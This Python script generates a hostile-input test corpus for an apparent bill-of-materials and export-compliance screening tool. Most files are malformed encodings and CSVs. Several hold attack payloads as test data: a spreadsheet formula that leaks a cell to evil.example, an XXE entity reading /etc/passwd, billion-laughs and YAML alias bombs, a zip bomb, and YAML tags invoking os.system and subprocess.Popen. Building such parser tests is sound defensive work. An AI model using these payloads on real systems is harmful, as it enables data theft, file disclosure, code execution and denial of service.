"""Write the hostile-input corpus (run from the repository root: python tests/data/bad/make_corpus.py).

The files are committed; this script documents how the binary ones (other encodings,
workbooks, zips) were made and regenerates them. Each file is small: big inputs are
generated on the fly by the tests and benchmarks/bigcsv.py.
"""

from __future__ import annotations

import datetime as dt
import io
import zipfile
from pathlib import Path

HERE = Path(__file__).resolve().parent
HEADER = "part_number,description,parent,quantity,unit_value,currency,unit_mass,origin_country,materials\n"
GOOD = [
    "MOT-1,Traction motor,,1,1850.00,USD,48kg,DE,\n",
    "MAG-1,NdFeB magnet segment,MOT-1,48,3.20,USD,40g,JP,Nd 26.5%; Dy 4.5%@CN; B 1%; Fe 68%\n",
]


def write(kind: str, name: str, content: str | bytes, encoding: str = "utf-8") -> None:
    folder = HERE / kind
    folder.mkdir(parents=True, exist_ok=True)
    data = content if isinstance(content, bytes) else content.encode(encoding)
    (folder / name).write_bytes(data)


def bom_files() -> None:
    text = HEADER + "".join(GOOD)
    chinese = HEADER + "MOT-1,牵引电机,,1,1850.00,USD,48kg,CN,\nMAG-1,钕铁硼磁体 (稀土永磁),MOT-1,48,3.20,USD,40g,CN,Nd 26.5%; Dy 4.5%; B 1%; Fe 68%\n"
    latin = HEADER + "MOT-1,Moteur de traction Société Générale Électrique,,1,1850.00,EUR,48kg,FR,\nMAG-1,Magnetsegment Müller,MOT-1,48,3.20,EUR,40g,DE,Nd 26.5%; Dy 4.5%@CN; B 1%; Fe 68%\n"
    write("bom", "enc-utf8.csv", text)
    write("bom", "enc-utf8-bom.csv", b"\xef\xbb\xbf" + text.encode())
    write("bom", "enc-utf16le.csv", text, "utf-16")  # Python writes the BOM, little-endian
    write("bom", "enc-utf16be.csv", b"\xfe\xff" + text.encode("utf-16-be"))
    write("bom", "enc-gb18030.csv", chinese, "gb18030")
    write("bom", "enc-gbk.csv", chinese, "gbk")
    write("bom", "enc-latin1.csv", latin, "latin-1")
    write("bom", "enc-cp1252-one-utf8.csv", HEADER.encode() + "".join(
        f"P-{i},Lagerschale Müller {i},,1,1,EUR,1g,DE,\n" for i in range(1, 9)).encode("cp1252")
        + "P-9,Dichtung Société,,1,1,EUR,1g,FR,\n".encode() + "P-10,Ventil Größe 2,,1,1,EUR,1g,DE,\n".encode("cp1252"))
    write("bom", "enc-mixed.csv", HEADER.encode() + "MOT-1,Motor Müller,,1,1,USD,1kg,DE,\n".encode() + "MAG-1,Magnet Société,MOT-1,1,1,USD,1g,FR,\n".encode("latin-1"))
    write("bom", "enc-invalid-utf16.csv", b"\xff\xfe" + text.encode("utf-16-le")[:-1] + b"\x00\xd8")
    write("bom", "enc-nul-bytes.csv", HEADER + "MOT-1,Motor\x00\x00,,1,1,USD,1kg,DE,\n")
    write("bom", "csv-semicolon.csv", text.replace(",", ";").replace("Nd 26.5%; Dy 4.5%@CN; B 1%; Fe 68%", '"Nd 26.5%; Dy 4.5%@CN; B 1%; Fe 68%"'))
    write("bom", "csv-tab.tsv", text.replace(",", "\t"))
    write("bom", "csv-wrong-delimiter.csv", HEADER.replace(",", ";") + "MOT-1,Motor,,1,1,USD,1kg,DE,\n")
    write("bom", "csv-quoted-newline.csv", HEADER + 'MOT-1,"Traction motor\nwith two-line description",,1,1850.00,USD,48kg,DE,\n' + GOOD[1])
    write("bom", "csv-unbalanced-quote.csv", HEADER + GOOD[0] + 'MAG-1,"NdFeB magnet,MOT-1,48,3.20,USD,40g,JP,\n' + "X-1,Spacer,MOT-1,1,1,USD,1g,DE,\n")
    write("bom", "csv-ragged.csv", HEADER + GOOD[0] + "MAG-1,NdFeB magnet,MOT-1,48,3.20,USD,40g,JP,,surplus,cells\n" + "SHAFT,Shaft,MOT-1\n")
    write("bom", "csv-duplicate-header.csv", "part_number,quantity,Quantity\nA,1,2\n")
    write("bom", "csv-empty-header.csv", "part_number,,quantity\nA,x,1\n")
    write("bom", "csv-missing-part-column.csv", "description,quantity\nMotor,1\n")
    write("bom", "csv-headers-only.csv", HEADER)
    write("bom", "csv-empty.csv", "")
    write("bom", "csv-blank-lines.csv", "\n\n  \n")
    write("bom", "csv-formula-cells.csv", HEADER + '=HYPERLINK("http://evil.example/?leak="&A1),Motor,,1,1,USD,1kg,DE,\nMAG-1,Magnet,,=2*3,1,USD,1g,JP,\n')
    write("bom", "csv-number-formats.csv", HEADER
          + 'MOT-1,Motor,,1,"1,850.00",USD,48kg,DE,\n'
          + 'MAG-1,Magnet,MOT-1,48,"3,20",EUR,"0,04kg",JP,"Nd 26,5%; Dy 4,5%@CN; Fe 69%"\n'
          + 'BOLT,Bolt,MOT-1,"1.200",1,EUR,1g,DE,\n'
          + 'NUT,Nut,MOT-1,"1.200,5",1,EUR,1g,DE,\n')
    write("bom", "csv-ambiguous-thousands.csv", HEADER + 'MOT-1,Motor,,"1,200",1,USD,1kg,DE,\n')
    write("bom", "csv-absurd-values.csv", HEADER + GOOD[0]
          + "NEG,Negative quantity,MOT-1,-3,1,USD,1g,DE,\n"
          + "BIG,Absurd quantity,MOT-1,1e12,1,USD,1g,DE,\n"
          + "COST,Absurd value,MOT-1,1,99999999999999,USD,1g,DE,\n"
          + "NEGV,Negative value,MOT-1,1,-5,USD,1g,DE,\n"
          + "INF,Infinite,MOT-1,Infinity,1,USD,1g,DE,\n")
    write("bom", "csv-percent-over-100.csv", HEADER + GOOD[0] + "MAG-1,Magnet,MOT-1,1,1,USD,40g,JP,Nd 140%\n")
    write("bom", "csv-shares-sum-over-100.csv", HEADER + GOOD[0] + "MAG-1,Magnet,MOT-1,1,1,USD,40g,JP,Nd 60%; Dy 30%@CN; Fe 68%\n")
    write("bom", "graph-parent-cycle.csv", HEADER + "A,Assembly A,B,1,1,USD,1kg,DE,\nB,Assembly B,A,1,1,USD,1kg,DE,\nMAG-1,Magnet,A,1,1,USD,40g,JP,Dy 4%@CN; Fe 96%\n")
    write("bom", "graph-self-parent.csv", HEADER + "A,Assembly A,A,1,1,USD,1kg,DE,\n")
    write("bom", "graph-unknown-parent.csv", HEADER + GOOD[0] + "MAG-1,Magnet,NOT-THERE,1,1,USD,40g,JP,\n")
    write("bom", "graph-duplicate-part.csv", HEADER + GOOD[0] + GOOD[0])
    write("bom", "json-bad-values.json", '[\n  {"part_number": "MOT-1", "quantity": 1},\n  {"part_number": "MAG-1", "parent": "MOT-1", "quantity": -2},\n'
          '  {"part_number": "BIG", "parent": "MOT-1", "quantity": 1e999},\n  {"part_number": ["not", "text"], "parent": "MOT-1"}\n]\n')
    write("bom", "json-not-objects.json", '[\n  {"part_number": "MOT-1"},\n  7\n]\n')
    xlsx_files()
    substance_files()


#: Substances written the ways BOM authors write them: each must resolve or become a finding.
SUBSTANCE_CELLS = {
    "subst-lowercase.csv": "nd 26.5%; dy 4.5%@CN; b 1%; fe 68%",
    "subst-fullwidth.csv": "Ｎｄ　２６．５％；Ｄｙ　４．５％＠ＣＮ；Ｂ　１％；Ｆｅ　６８％",
    "subst-chinese.csv": "钕 26.5%; 镝 2g@CN; 硼 1%; 铁 68%",
    "subst-comma-list.csv": '"Nd 26.5%, Dy 4.5%@CN, B 1%, Fe 68%"',
    "subst-misspelt.csv": "Nd 26.5%; Dysprosum 4.5%@CN; B 1%; Fe 68%",
    "subst-formula-typo.csv": "Nd 26.5%; Dy203 4.5%@CN; B 1%; Fe 68%",
}


def substance_files() -> None:
    for name, cell in SUBSTANCE_CELLS.items():
        write("bom", name, HEADER + GOOD[0] + GOOD[1].replace("Nd 26.5%; Dy 4.5%@CN; B 1%; Fe 68%", cell))
    # Numbers nobody would believe: a unit value typed in thousands, and 50 g of Dy in a 40 g magnet.
    write("bom", "plaus-share-over-100.csv", HEADER + GOOD[0] + GOOD[1].replace(",3.20,", ",0.0032,"))
    write("bom", "end-use.csv", HEADER.replace("materials\n", "materials,end_user_country,end_use\n")
          + "MOT-1,Traction motor,,1,1850.00,USD,48kg,DE,,JP,Ground Self-Defense Force vehicle drive\n"
          + "MAG-1,NdFeB magnet segment,MOT-1,48,3.20,USD,40g,JP,Dy 4.5%@CN; Fe 95.5%,,\n"
          + "SPARE,Spare motor,,1,1850.00,USD,48kg,DE,,US,\n")
    write("bom", "plaus-mass-over-unit.csv", HEADER + GOOD[0] + GOOD[1].replace("Dy 4.5%@CN", "Dy 50g@CN"))


def _workbook(build) -> bytes:
    import openpyxl

    wb = openpyxl.Workbook()
    build(wb)
    buffer = io.BytesIO()
    wb.save(buffer)
    return buffer.getvalue()


def xlsx_files() -> None:
    def several_sheets(wb):
        wb.active.title = "Cover"
        wb.active.append(["Exported from ERP", "2026-11-28"])
        wb.active.append(["not", "a", "bom"])
        bom = wb.create_sheet("BOM")
        bom.append(["Part No.", "Description", "Qty", "Unit Price", "Weight", "COO", "Materials", "Released"])
        bom.append(["MAG-1", "Magnet", 48, 3.2, "40g", "JP", "Nd 26.5%; Dy 4.5%@CN; B 1%; Fe 68%", dt.date(2026, 1, 5)])
        bom.append(["SHAFT", "Shaft", 1, 85, "6.2kg", "DE", None, 46000])  # a date typed as a serial number

    def merged_title(wb):
        ws = wb.active
        ws.title = "BOM"
        ws["A1"] = "Bill of materials - traction motor TM-200"
        ws.merge_cells("A1:D1")
        ws.append(["Part No.", "Description", "Qty", "COO"])
        ws.append(["MAG-1", "Magnet", 48, "JP"])

    def merged_header(wb):
        ws = wb.active
        ws.title = "BOM"
        ws.append(["Part No.", "Mass", None, "COO"])
        ws.merge_cells("B1:C1")
        ws.append(["MAG-1", 40, "g", "JP"])

    def unsaved_formula(wb):
        ws = wb.active
        ws.title = "BOM"
        ws.append(["Part No.", "Qty"])
        ws.append(["MAG-1", "=6*8"])  # openpyxl saves the formula without a cached result

    write("bom", "xlsx-several-sheets.xlsx", _workbook(several_sheets))
    write("bom", "xlsx-merged-title.xlsx", _workbook(merged_title))
    write("bom", "xlsx-merged-header.xlsx", _workbook(merged_header))
    write("bom", "xlsx-formula-no-result.xlsx", _workbook(unsaved_formula))
    write("bom", "xlsx-not-a-zip.xlsx", b"PK\x03\x04 this is not really a workbook")
    write("bom", "xlsx-zip-bomb.xlsx", _zip_bomb())
    write("bom", "xlsx-cell-bomb.xlsx", _cell_bomb())


def _minimal_workbook(sheet_xml: bytes, compress: bool = True) -> bytes:
    parts = {
        "[Content_Types].xml": b'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>',
        "_rels/.rels": b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>',
        "xl/workbook.xml": b'<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="BOM" sheetId="1" r:id="rId1"/></sheets></workbook>',
        "xl/_rels/workbook.xml.rels": b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>',
        "xl/worksheets/sheet1.xml": sheet_xml,
    }
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED if compress else zipfile.ZIP_STORED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def _sheet(rows: str, dimension: str = "") -> bytes:
    dim = f'<dimension ref="{dimension}"/>' if dimension else ""
    return (f'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
            f"{dim}<sheetData>{rows}</sheetData></worksheet>").encode()


def _cell_bomb() -> bytes:
    """A small sheet that claims (and pads to) 16,384 columns x 2,000 rows."""
    rows = '<row r="1"><c r="A1" t="inlineStr"><is><t>part_number</t></is></c></row>'
    rows += "".join(f'<row r="{r}"><c r="XFD{r}"><v>1</v></c></row>' for r in range(2, 2002))
    return _minimal_workbook(_sheet(rows, "A1:XFD2001"))


def _zip_bomb() -> bytes:
    """A ~100 KB workbook whose sheet inflates to 100 MB (ratio ~1000:1); refused from the
    zip directory before anything is inflated."""
    padding = b" " * (100 << 20)
    return _minimal_workbook(_sheet('<row r="1"><c r="A1" t="inlineStr"><is><t>part_number</t></is></c></row>').replace(b"<sheetData>", b"<sheetData>" + padding))


IPC_HEAD = '<?xml version="1.0" encoding="UTF-8"?>\n'
IPC_BODY = (
    '<MainDeclaration xmlns="http://webstds.ipc.org/175x/2.0" version="2.0">\n'
    '  <Product><ProductID itemNumber="MAG-1"/><MaterialInfo><HomogeneousMaterialList>\n'
    '    <HomogeneousMaterial name="magnet"><Amount value="40" UOM="g"/><SubstanceCategoryList><SubstanceCategory>\n'
    '      <Substance name="Dysprosium"><SubstanceID identity="7429-91-6" authority="CAS"/><Concentration value="4.5"/></Substance>\n'
    '      <Substance name="Neodymium"><SubstanceID identity="7440-00-8" authority="CAS"/>{extra}</Substance>\n'
    '    </SubstanceCategory></SubstanceCategoryList></HomogeneousMaterial>\n'
    '  </HomogeneousMaterialList></MaterialInfo></Product>\n'
    '</MainDeclaration>\n'
)


def materials_files() -> None:
    write("materials", "good.csv", "part_number,substance,cas,mass_pct,origin_country\nMAG-1,Dysprosium,7429-91-6,4.5,CN\n")
    write("materials", "csv-bad-rows.csv", "part_number,substance,cas,mass_pct,origin_country\n"
          "MAG-1,Dysprosium,7429-91-6,4.5,CN\n,Terbium,,1,CN\nMAG-1,Terbium,,140,CN\nMAG-1,Holmium,,1,Atlantis\nNOT-IN-BOM,Dy,,1,CN\n")
    write("materials", "ipc-good.xml", IPC_HEAD + IPC_BODY.format(extra='<Concentration value="26.5"/>'))
    write("materials", "ipc-xxe.xml", IPC_HEAD + '<!DOCTYPE MainDeclaration [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
          + IPC_BODY.format(extra='<Concentration value="26.5"/>').replace('name="magnet"', 'name="&xxe;"'))
    lol = "".join(f'<!ENTITY lol{i} "' + f"&lol{i - 1};" * 10 + '">' for i in range(1, 10))
    write("materials", "ipc-billion-laughs.xml", IPC_HEAD + f'<!DOCTYPE MainDeclaration [<!ENTITY lol0 "lol">{lol}]>\n'
          + IPC_BODY.format(extra="").replace('name="magnet"', 'name="&lol9;"'))
    write("materials", "ipc-dtd.xml", IPC_HEAD + '<!DOCTYPE MainDeclaration SYSTEM "http://example.invalid/ipc1752.dtd">\n'
          + IPC_BODY.format(extra='<Concentration value="26.5"/>'))
    write("materials", "ipc-wrong-namespace.xml", IPC_HEAD + IPC_BODY.format(extra='<Concentration value="26.5"/>').replace(
        "http://webstds.ipc.org/175x/2.0", "urn:example:not-ipc"))
    write("materials", "ipc-wrong-root.xml", IPC_HEAD + '<Declaration xmlns="http://webstds.ipc.org/175x/2.0"/>\n')
    write("materials", "ipc-truncated.xml", (IPC_HEAD + IPC_BODY.format(extra=""))[:400])
    write("materials", "ipc-bad-values.xml", IPC_HEAD + IPC_BODY.format(extra='<Amount value="lots" UOM="g"/>'))


PARTIES_HEADER = "name,country,address,id\n"


def parties_files() -> None:
    write("parties", "enc-gb18030.csv", PARTIES_HEADER + "华为技术有限公司,CN,深圳,C1\n北京航空航天大学,中国,,C2\n", "gb18030")
    write("parties", "enc-latin1.csv", PARTIES_HEADER + "Société Générale Électrique,FR,Paris,C1\nMüller Präzision GmbH,DE,,C2\n", "latin-1")
    write("parties", "bad-rows.csv", PARTIES_HEADER + "Acme Trading,US,,C1\n,CN,,C2\nBeta GmbH,Atlantis,,C3\nGamma Ltd,GB,,C4,surplus\n")
    write("parties", "missing-name-column.csv", "company_id,country\nC1,CN\n")
    write("parties", "formula-name.csv", PARTIES_HEADER + '"=HYPERLINK(""http://evil.example"",""click"")",US,,C1\n')
    country_files()
    write("parties", "end-use.csv", "name,country,end_user_country,end_use\n"
          "Kawasaki Heavy Industries,JP,JP,Ministry of Defense submarine programme\nToyota Motor Corporation,JP,日本,\n"
          "Denso Corporation,JP,JP,automotive alternators\nGeneral Dynamics,US,US,\nRolls-Royce plc,GB,ZZ,aero engines\n")
    for name, (encoding, rows) in EAST_ASIAN.items():
        write("parties", name, PARTIES_HEADER + rows, encoding)


#: Counterparty files in the legacy encodings of Taiwan/Hong Kong, Japan and Korea: each
#: also "decodes" as GB18030, into other characters.
EAST_ASIAN = {
    "enc-big5.csv": ("cp950", "台灣積體電路製造股份有限公司,TW,新竹科學園區,C1\n鴻海精密工業股份有限公司,台灣,新北市土城區,C2\n"),
    "enc-shift-jis.csv": ("cp932", "トヨタ自動車株式会社,JP,愛知県豊田市,C1\n三菱重工業株式会社,日本,東京都千代田区,C2\n"),
    "enc-euc-kr.csv": ("cp949", "삼성전자 주식회사,KR,경기도 수원시,C1\n현대자동차 주식회사,KR,서울특별시,C2\n"),
}


def country_files() -> None:
    """Every ISO 3166-1 code (from pycountry), ISO short names, and codes that are not ISO."""
    import pycountry

    codes = sorted(c.alpha_2 for c in pycountry.countries)
    write("parties", "iso-every-code.csv", PARTIES_HEADER + "".join(f"Trading House {code},{code},,P{code}\n" for code in codes))
    names = ["Bermuda", "Korea, Republic of", "Taiwan, Province of China", "Bolivia, Plurinational State of", "Guernsey",
             "Turks and Caicos Islands", "Puerto Rico", "DEU", "UK", "EL"]
    write("parties", "iso-names.csv", PARTIES_HEADER + "".join(f'Party {i},"{n}",,N{i}\n' for i, n in enumerate(names)))
    write("bom", "country-codes.csv", HEADER + GOOD[0] + "BRK,Bracket,MOT-1,1,1,USD,1g,UK,\n"
          + "GSK,Gasket,MOT-1,1,1,USD,1g,EL,\nPIN,Pin,MOT-1,1,1,USD,1g,ZZ,\nCLP,Clip,MOT-1,1,1,USD,1g,BM,Dy 1%@ZZ\n")
    write("ownership", "country-codes.csv", "owner,owned,percent,owner_country,owned_country\n"
          "A,B,60,BM,CN\nG,B,10,ZZ,CN\nA,G,20,JE,HK\n")


OWNERSHIP_HEADER = "owner,owned,percent\n"


def ownership_files() -> None:
    write("ownership", "parties.csv", PARTIES_HEADER + "Alpha Holdings,CN,,A\nBeta Manufacturing,CN,,B\nGamma Trading,HK,,G\n")
    write("ownership", "self-ownership.csv", OWNERSHIP_HEADER + "A,A,60\nA,B,60\n")
    write("ownership", "cycle.csv", OWNERSHIP_HEADER + "A,B,60\nB,G,60\nG,A,60\n")
    write("ownership", "stakes-over-100.csv", OWNERSHIP_HEADER + "A,B,150\nA,G,-5\nG,B,lots\n")
    write("ownership", "stakes-sum-over-100.csv", OWNERSHIP_HEADER + "A,B,70\nG,B,60\n")
    write("ownership", "unknown-party.csv", OWNERSHIP_HEADER + "A,B,60\nNobody Known,B,30\n")


def yaml_files() -> None:
    write("yaml", "rules-object-tag.yaml", "id: x\nrules: !!python/object/apply:os.system ['echo pwned']\n")
    write("yaml", "rules-alias-bomb.yaml", "a: &a [x, x, x, x, x, x, x, x, x]\n" + "".join(
        f"{c}: &{c} [" + ", ".join([f"*{p}"] * 9) + "]\n" for p, c in zip("abcdefgh", "bcdefghi")))
    write("yaml", "rules-duplicate-key.yaml", "id: cn-test\ntitle: one\ntitle: two\n")
    write("yaml", "rules-tabs.yaml", "id: cn-test\nrules:\n\t- id: X\n")
    write("yaml", "rules-wrong-types.yaml", (HERE.parent.parent.parent / "rules" / "cn" / "mofcom-2025-57.yaml").read_text(encoding="utf-8")
          .replace("version: \"2026.11.28\"", "version: [1, 2]").replace("id: cn-mofcom-2025-57", "id: cn-bad-types", 1))
    write("yaml", "waivers-object-tag.yaml", "waivers: !!python/object/new:subprocess.Popen [[ls]]\n")
    write("yaml", "waivers-duplicate-key.yaml", "waivers:\n  - id: W-1\n    rule: X\n    rule: Y\n")
    write("yaml", "waivers-wrong-types.yaml", "waivers:\n  - id: W-1\n    rule: CN-*\n    justification: ok\n    approved_by: me\n"
          "    approved_on: yesterday\n    expires: 2026-06-30\n")
    write("yaml", "waivers-alias-bomb.yaml", "x: &a [1, 1, 1, 1, 1, 1, 1, 1, 1, 1]\n" + "".join(
        f"{c}: &{c} [" + ", ".join([f"*{p}"] * 10) + "]\n" for p, c in zip("abcdefgh", "bcdefghi")))
    write("yaml", "config-tabs.yaml", "fail_on: high\n\tstrict: true\n")
    write("yaml", "config-wrong-types.yaml", "fail_on: [high]\nmax_rejected_rows: lots\n")
    write("yaml", "config-duplicate-key.yaml", "fail_on: high\nfail_on: low\n")


def report_files() -> None:
    write("reports", "truncated.json", '{"schema_version": "1", "tool": {"name": "compliance", "version": "0.1.0"}, "findings": [{"rule_id": ')
    write("reports", "not-a-report.json", '{"hello": "world"}\n')
    write("reports", "binary.json", b"\x89PNG\r\n\x1a\n\x00\x00")


def list_files() -> None:
    """CSL CSV exports broken the ways a download breaks; the source is the test fixture."""
    source = (HERE.parent / "lists" / "csl" / "consolidated.csv").read_text(encoding="utf-8")
    lines = source.splitlines(keepends=True)
    write("lists", "csl-truncated.csv", source[: len(lines[0]) + len(lines[1]) // 2])
    write("lists", "csl-renamed-column.csv", source.replace(",name,", ",entity_name,", 1))
    write("lists", "csl-headers-only.csv", lines[0])
    # A user list with no date in its content (and `country: NO`, which YAML 1.1 reads as false).
    write("lists", "user-no-date.yaml", "- name: Acme Diversion Ltd\n  country: NO\n")
    write("lists", "cn-no-date.csv", "list,name_en,name_zh,country,date_added,announcement\n"
          "Unreliable Entity List,Example Aerospace Corp,,United States,2025-01-02,MOFCOM UEL Announcement No. 1 of 2025\n")


if __name__ == "__main__":
    bom_files()
    materials_files()
    parties_files()
    ownership_files()
    yaml_files()
    report_files()
    list_files()
